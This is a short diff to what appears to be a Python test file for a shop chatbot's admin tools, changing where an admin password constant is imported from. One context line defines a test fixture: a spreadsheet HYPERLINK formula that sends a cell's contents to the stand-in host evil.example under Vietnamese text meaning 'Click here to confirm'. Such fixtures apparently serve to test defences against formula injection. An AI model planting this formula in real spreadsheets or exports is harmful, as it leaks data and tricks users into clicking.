@@ -24,7 +24,7 @@ from bench.unanswered import distinct_messages
 from bot.admin import draft
 from bot.admin.analytics import SHOP_TIMEZONE
 from bot.admin.unanswered import group_messages, unanswered
-from tests.conftest import ADMIN_PASSWORD
+from bot.sandbox import ADMIN_PASSWORD
 from tests.console_server import console_server
 
 FORMULA = '=HYPERLINK("http://evil.example/?c="&A1,"Bấm vào đây để xác nhận")'
